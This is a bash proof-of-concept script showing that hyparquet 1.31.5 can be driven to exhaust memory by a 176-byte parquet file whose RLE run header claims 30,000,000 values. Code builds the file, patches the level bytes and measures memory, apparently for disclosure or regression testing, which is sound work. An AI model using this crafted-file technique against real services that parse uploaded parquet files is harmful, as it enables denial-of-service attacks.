#!/usr/bin/env bash
# hyparquet 1.31.5: a parquet file of 176 bytes that says it has 64 rows fills any amount of memory.
#
# A good guess: an array is made of as many values as the page has, so a run of equal values cannot write past its end.
# The reader of runs (RLE) trusts the length that stands in front of a run: it assigns output[seen + i] for all of them,
# and the array, a plain one, grows with it. A run says its length in five bytes. Neither num_values of the page nor
# num_rows of the file, both small here, hold it. Whoever reads files of others has to walk through the runs first.
#
# Seen: a file of 176 bytes and 64 rows, one run of which says 30,000,000: no error, 64 rows, 1.2 GB while reading
# (2,147,483,647 would end the process).
#
# Runs the pinned packages alone. Fails if the behaviour changes.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
npm init -y >/dev/null
npm install --no-audit --no-fund --ignore-scripts --silent hyparquet@1.31.5 hyparquet-writer@0.17.0 >/dev/null
cat >run.mjs <<'JS'
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
// every other row is null: 64 bits that say which, as packed bits (0x11: eight groups of eight)
const data = Array.from({ length: 64 }, (_, i) => (i % 2 ? 7 : null));
const columnData = [{ name: 'x', type: 'INT32', nullable: true, data }];
const file = new Uint8Array(parquetWriteBuffer({ codec: 'UNCOMPRESSED', columnData }));
const at = file.findIndex((x, i) => x === 0x11 && file[i + 1] === 0xaa && file[i + 8] === 0xaa);
console.log(`${file.length} bytes, ${parquetMetadata(file.slice().buffer).num_rows} rows; levels at ${at}`);
// in their place one run of ones: its length, doubled, in seven bits a byte, and the value
const length = 2 * Number(process.argv[2]);
const hostile = file.slice();
hostile.set([...[0, 7, 14, 21].map((shift) => ((length >>> shift) & 0x7f) | (shift < 21 ? 0x80 : 0)), 1], at);
const outcome = await parquetReadObjects({ file: hostile.buffer }).then((rows) => `${rows.length} rows`, (e) => e.message);
console.log(`a run of ${process.argv[2]}: ${outcome}; most memory ${Math.round(process.resourceUsage().maxRSS / 1024)} MB`);
JS
measure() { node run.mjs "$1" | tee /dev/stderr | sed -n 's/.*memory \([0-9]*\) MB/\1/p'; }
usual=$(measure 64)
hostile=$(measure 30000000)
[ $((hostile - usual)) -gt 150 ] && echo 'as found' || { echo CHANGED; exit 1; }
